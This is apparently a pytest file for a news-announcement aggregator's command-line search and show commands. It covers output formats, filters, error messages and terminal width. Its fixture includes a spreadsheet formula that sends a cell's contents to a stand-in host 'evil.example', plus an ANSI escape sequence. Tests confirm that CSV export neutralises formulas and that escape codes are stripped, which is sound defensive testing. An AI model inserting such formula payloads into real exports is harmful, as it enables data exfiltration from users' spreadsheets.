"""`herald search` and `herald show` on a small database."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from aggregator.cli import herald
from aggregator.cli.printing import as_csv
from aggregator.store import Store
from aggregator.store.identity import key_id
from tests.store.histories import Capture, numbered, said, store_of

LONG = "https://net.example/news/" + "a-very-long-name-of-a-page-" * 6 + "end"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"see")'
CAPTURES = [
    Capture(
        1,
        "https://net.example/news",
        (
            said("Fair", keys=[("wp", "1")], tags=["mobility", "members only"], starts="18-03-2020", city="Graz"),
            said(FORMULA, keys=[("wp", "2")], published="10-12-2018", city="+49 30"),
            said("Steering\x1b[31m the terminal", keys=[("wp", "3")], published="soon"),
        ),
    ),
    Capture(
        2,
        LONG,
        (
            said(
                "Fair, moved",
                keys=[("wp", "1")],
                tags=["mobility", "members only"],
                starts="07-10-2020",
                ends="2020-10-09",
                url=LONG,
                summary="The fair takes place in autumn.",
            ),
        ),
        "article",
    ),
    Capture(3, LONG, (said("Fair, online", keys=[("wp", "1")], starts="07-10-2020", url=LONG),), "article"),
]
FAIR = key_id("net", ("wp", "1"))


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with an `announcements.db`, in which the command runs."""
    monkeypatch.chdir(tmp_path)
    memory = store_of([numbered(CAPTURES)])
    store = Store(Path("announcements.db"))
    memory.db.conn.backup(store.db.conn)
    store.close()
    memory.close()
    return tmp_path


def run(*arguments: object, columns: str = "") -> Result:
    env = {"COLUMNS": columns or None, "HERALD_DB": None}
    return CliRunner().invoke(herald, [*map(str, arguments)], env=env, prog_name="herald")


def test_search_as_a_table(here: Path) -> None:
    result = run("search", "fair")
    assert result.exit_code == 0
    assert [line.split() for line in result.stdout.splitlines()] == [
        [],
        ["id", "title", "dates"],
        ["─" * len(result.stdout.splitlines()[2].strip())],
        [str(FAIR), "Fair,", "online", "2020-10-07"],
        ["news", "·", "net", "·", "mobility"],
        [],
        ["1", "announcement"],
    ]


def test_search_as_json(here: Path) -> None:
    rows = json.loads(run("search", "fair", "--format", "json").stdout)
    assert rows == [
        {
            "id": FAIR,
            "title": "Fair, online",
            "network": "net",
            "kind": "news",
            "day": "2020-10-07",
            "published": None,
            "starts": "2020-10-07",
            "ends": None,
            "deadline": None,
            "city": "Graz",
            "country": None,
            "themes": ["mobility"],
            "url": LONG,
        }
    ]
    assert json.loads(run("search", "nowhere", "--format", "json").stdout) == []


def test_search_as_csv_runs_no_formula(here: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(run("search", "hyperlink", "--format", "csv").stdout, newline="")))
    assert [(row["title"], row["city"]) for row in rows] == [("'" + FORMULA, "'+49 30")]
    header = ["id", "title", "network", "kind", "day", "published", "starts", "ends", "deadline"]
    assert list(rows[0]) == [*header, "city", "country", "themes", "url"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(start: str, capsys: pytest.CaptureFixture[str]) -> None:
    as_csv([{"a": f"{start}1+1", "b": [f"{start}x", "y"], "c": None}], ["a", "b", "c"])
    ((a, b, c),) = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))[1:]
    assert (a, b, c) == (f"'{start}1+1", f"'{start}x; y", "")


FILTERS: list[tuple[list[str], int]] = [
    ([], 3),
    (["--theme", "mobility"], 1),
    (["--network", "net"], 3),
    (["--kind", "event"], 0),
    (["--since", "2020-01-01"], 1),
    (["--until", "2018-12-10"], 1),
    (["--limit", "2"], 2),
    (["the", "terminal"], 1),
    (['"the terminal"'], 1),
    (['"the'], 1),
    (["NEAR("], 0),
    (["--", "-fair"], 1),
]


@pytest.mark.parametrize(("arguments", "found"), FILTERS)
def test_filters(here: Path, arguments: list[str], found: int) -> None:
    result = run("search", "--format", "json", *arguments)
    assert (result.exit_code, len(json.loads(result.stdout))) == (0, found)


def test_nothing_found_and_a_limit_that_was_reached(here: Path) -> None:
    for words in ("nowhere", '"', "!!", "--- ..."):
        assert run("search", "--", words).stdout == "nothing found\n"
    last = run("search", "--limit", "2").stdout.splitlines()[-1]
    assert last == "2 announcements; there may be more: --limit 4 shows them"


def test_show(here: Path) -> None:
    result = run("show", FAIR)
    assert result.exit_code == 0
    assert (
        result.stdout
        == f"""
Fair, online
  kind          news
  network       net
  url           {LONG[:104]}
                {LONG[104:]}
  starts        2020-10-07
  city          Graz
  language      en
  themes        mobility
  tags          members only, mobility
  first seen    2020-01-02T00:00:01+00:00
  last changed  2020-01-04T00:00:01+00:00

Evidence (* is what the announcement takes)
  title     *  Fair, online
               (title, page 1, since 2020-01-04)
               Fair
               (title, page 2, since 2020-01-02)
  kind      *  news
               (file, pages 1, 2, since 2020-01-02)
  starts    *  07-10-2020 → 2020-10-07 (order assumed)
               (label, page 1, since 2020-01-04)
               18-03-2020 → 2020-03-18
               (label, page 2, since 2020-01-02)
  city      *  Graz
               (label, page 2, since 2020-01-02)
  language  *  en
               (file, pages 1, 2, since 2020-01-02)
  tags      *  mobility
               (label, page 2, since 2020-01-02)
            *  members only
               (label, page 2, since 2020-01-02)
  themes    *  mobility
               (label, page 2, since 2020-01-02)
               members only → no theme, on purpose
               (label, page 2, since 2020-01-02)
  url       *  {LONG[:105]}
               {LONG[105:]}
               (label, page 1, since 2020-01-03)

Pages
  1  {LONG[:115]}
     {LONG[115:]}
     last told of it 2020-01-04T00:00:01+00:00
  2  https://net.example/news
     last told of it 2020-01-02T00:00:01+00:00

Changes
  2020-01-04  ends     2020-10-09 → nothing
              summary  The fair takes place in autumn. → nothing
              title    Fair, moved → Fair, online
"""
    )


def test_show_as_json(here: Path) -> None:
    row = json.loads(run("show", FAIR, "--format", "json").stdout)
    columns = "id network source kind url title summary body language published published_day modified starts".split()
    columns += "starts_day ends ends_day deadline deadline_day month venue city country themes first_seen".split()
    columns += "last_changed fingerprint state tags occurrences evidence pages versions".split()
    assert list(row) == columns
    assert (row["themes"], row["tags"]) == (["mobility"], ["members only", "mobility"])
    assert row["versions"][0]["changed"] == {
        "ends": ["2020-10-09", None],
        "summary": ["The fair takes place in autumn.", None],
        "title": ["Fair, moved", "Fair, online"],
    }
    keys = ["field", "raw", "value", "route", "precision", "assumed", "chosen", "page", "seen"]
    assert {tuple(one) for one in row["evidence"]} == {tuple(keys)}


def test_words_that_were_taken_as_nothing_and_that_steer_no_terminal(here: Path) -> None:
    result = run("show", key_id("net", ("wp", "3")))
    assert "soon → nothing" in result.stdout
    assert "\x1b" not in result.stdout
    assert "\x1b" not in run("search", "terminal", "--format", "csv").stdout


@pytest.mark.parametrize("columns", [60, 80])
@pytest.mark.parametrize("arguments", [["search"], ["show", FAIR]])
def test_a_narrow_terminal_cuts_nothing(here: Path, columns: int, arguments: list[Any]) -> None:
    output = run(*arguments, columns=str(columns)).stdout
    assert max(map(len, output.splitlines())) <= columns
    assert "…" not in output
    if arguments == ["search"]:
        assert str(FAIR) in output
    else:
        assert "".join(LONG.split("-")) in "".join(output.replace("-", "").split())


@pytest.mark.parametrize("columns", [20, 30, 40])
def test_an_id_is_never_cut(here: Path, columns: int) -> None:
    output = run("search", "fair", columns=str(columns)).stdout
    assert max(map(len, output.splitlines())) <= columns
    first = [line[1:].split(" ")[0] for line in output.splitlines() if line[1:2].isdigit()]
    assert "".join(first) == str(FAIR)


# arguments, exit code, the line
WRONG: list[tuple[list[str], int, str]] = [
    (
        ["search", "--since", "yesterday"],
        2,
        "invalid value for '--since': 'yesterday' is no day; write it as 2019-01-17; see `herald search --help`",
    ),
    (
        ["search", "--until", "2019-02-30"],
        2,
        "invalid value for '--until': '2019-02-30' is no day; write it as 2019-01-17; see `herald search --help`",
    ),
    (
        ["search", "--network", "nte"],
        2,
        "invalid value for '--network': announcements.db knows no 'nte'; it knows net; see `herald search --help`",
    ),
    (
        ["search", "--kind", "party"],
        2,
        "invalid value for '--kind': 'party' is not one of 'news', 'event', 'call', 'publication'; "
        "see `herald search --help`",
    ),
    (
        ["search", "--limit", "0"],
        2,
        "invalid value for '--limit': 0 is not in the range x>=1; see `herald search --help`",
    ),
    (
        ["search", "--db", "none.db"],
        1,
        "none.db: there is no such database; `herald crawl` makes one, or name another file",
    ),
    (["show", "7"], 1, "announcements.db: has no announcement 7; `herald search` shows the ids"),
    (
        ["show", "abc"],
        2,
        "invalid value for 'ID': 'abc' is no id; `herald search` shows the ids; see `herald show --help`",
    ),
    (
        ["show", "9" * 20],
        2,
        f"invalid value for 'ID': '{'9' * 20}' is no id; `herald search` shows the ids; see `herald show --help`",
    ),
    (["show"], 2, "missing argument 'ID'; see `herald show --help`"),
    (
        ["show", "7", "--db", "none.db"],
        1,
        "none.db: there is no such database; `herald crawl` makes one, or name another file",
    ),
]


@pytest.mark.parametrize(("arguments", "code", "line"), WRONG)
def test_what_cannot_be_is_one_line(here: Path, arguments: list[str], code: int, line: str) -> None:
    result = run(*arguments)
    assert (result.exit_code, result.stdout, result.stderr) == (code, "", f"herald: {line}\n")
    assert not (here / "none.db").exists()


def test_the_environment_names_the_database(here: Path) -> None:
    (here / "announcements.db").rename(here / "other.db")
    command = ["search", "fair", "--format", "json"]
    result = CliRunner().invoke(herald, command, env={"HERALD_DB": "other.db"}, prog_name="herald")
    assert len(json.loads(result.stdout)) == 1
